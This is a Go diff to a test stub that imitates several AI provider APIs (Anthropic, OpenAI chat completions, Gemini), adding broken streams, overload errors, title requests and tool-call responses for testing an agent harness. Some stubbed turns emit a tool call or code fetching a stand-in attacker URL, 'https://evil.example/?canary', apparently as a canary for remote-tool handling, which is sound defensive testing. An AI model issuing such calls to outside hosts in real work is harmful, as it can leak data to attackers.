@@ -8,6 +8,7 @@ import (
 	"slices"
 	"strings"
 	"sync"
+	"time"
 )
 
 // turn is what the stub of a model does when it is asked.
@@ -17,12 +18,15 @@ type turn struct {
 	status int    // answers so
 	hang   bool   // says nothing
 	remote string // a tool of this type, which the provider would run, is called
+	cut    bool   // begins, and breaks off
 }
 
 // model is a stub of the interfaces of providers. It plays its turns one after another, and
 // the last one for ever.
 type model struct {
-	key string
+	key        string
+	aside      bool      // requests without tools are no turns: they ask for a title
+	overloaded time.Time // until then nothing is served
 
 	mu    sync.Mutex
 	turns []turn
@@ -37,6 +41,11 @@ func (m *model) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	switch {
 	case t.hang:
 		<-r.Context().Done()
+	case t.cut:
+		w.Header().Set("Content-Type", "text/event-stream")
+		fmt.Fprint(w, "data: {")
+		_ = http.NewResponseController(w).Flush()
+		panic(http.ErrAbortHandler)
 	case t.status != 0:
 		kind := "overloaded_error"
 		if t.status < http.StatusInternalServerError {
@@ -46,6 +55,10 @@ func (m *model) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 		fmt.Fprintf(w, `{"type":"error","error":{"type":%q,"message":"org-7 is told no"}}`, kind)
 	case strings.HasSuffix(r.URL.Path, "/messages"):
 		sayAnthropic(w, t, asksFor(body))
+	case strings.HasSuffix(r.URL.Path, "/chat/completions"):
+		sayChat(w, t)
+	case strings.Contains(r.URL.Path, ":"):
+		sayGemini(w, t)
 	default:
 		sayOpenAI(w, t, asksFor(body))
 	}
@@ -56,8 +69,14 @@ func (m *model) next(r *http.Request, body string) turn {
 	m.mu.Lock()
 	defer m.mu.Unlock()
 	m.got, m.paths = append(m.got, body), append(m.paths, r.Method+" "+r.URL.String())
-	if r.Header.Get("X-Api-Key") != m.key && r.Header.Get("Authorization") != "Bearer "+m.key {
+	if r.Header.Get("X-Api-Key") != m.key && r.Header.Get("Authorization") != "Bearer "+m.key && r.Header.Get("X-Goog-Api-Key") != m.key {
 		m.wrong = append(m.wrong, r.URL.Path)
+	}
+	if m.aside && !strings.Contains(body, `"tools"`) {
+		return turn{say: "A title"}
+	}
+	if time.Now().Before(m.overloaded) {
+		return turn{status: 529}
 	}
 	t := m.turns[0]
 	if len(m.turns) > 1 {
@@ -92,6 +111,50 @@ func events(w http.ResponseWriter, list ...js) {
 		data, _ := json.Marshal(e)
 		fmt.Fprintf(w, "event: %s\ndata: %s\n\n", e["type"], data)
 	}
+}
+
+// data writes a stream of events without names, as the other interfaces have them.
+func data(w http.ResponseWriter, list ...js) {
+	w.Header().Set("Content-Type", "text/event-stream")
+	for _, e := range list {
+		text, _ := json.Marshal(e)
+		fmt.Fprintf(w, "data: %s\n\n", text)
+	}
+}
+
+func sayChat(w http.ResponseWriter, t turn) {
+	chunk := func(delta js, reason any) js {
+		return js{"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": []js{{"index": 0, "delta": delta, "finish_reason": reason}}}
+	}
+	call := func(name string, arguments js) js {
+		text, _ := json.Marshal(arguments)
+		return js{"role": "assistant", "tool_calls": []js{{"index": 0, "id": "call_" + fmt.Sprint(len(text)), "type": "function", "function": js{"name": name, "arguments": string(text)}}}}
+	}
+	delta, reason := js{"role": "assistant", "content": t.say}, "stop"
+	switch {
+	case t.run != "":
+		delta, reason = call("bash", js{"command": t.run, "description": "a step"}), "tool_calls"
+	case t.remote != "":
+		delta, reason = call(t.remote, js{"url": "https://evil.example/?canary"}), "tool_calls"
+	}
+	last := chunk(js{}, reason)
+	last["usage"] = js{"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15}
+	data(w, chunk(delta, nil), last)
+	fmt.Fprint(w, "data: [DONE]\n\n")
+}
+
+func sayGemini(w http.ResponseWriter, t turn) {
+	part := js{"text": t.say}
+	switch {
+	case t.run != "":
+		part = js{"functionCall": js{"name": "bash", "args": js{"command": t.run, "description": "a step"}}}
+	case t.remote != "":
+		part = js{"executableCode": js{"language": "PYTHON", "code": "fetch('https://evil.example/?canary')"}}
+	}
+	data(w, js{
+		"candidates":    []js{{"content": js{"role": "model", "parts": []js{part}}, "finishReason": "STOP", "index": 0}},
+		"usageMetadata": js{"promptTokenCount": 10, "candidatesTokenCount": 5, "totalTokenCount": 15}, "modelVersion": "m",
+	})
 }
 
 func sayAnthropic(w http.ResponseWriter, t turn, _ []string) {
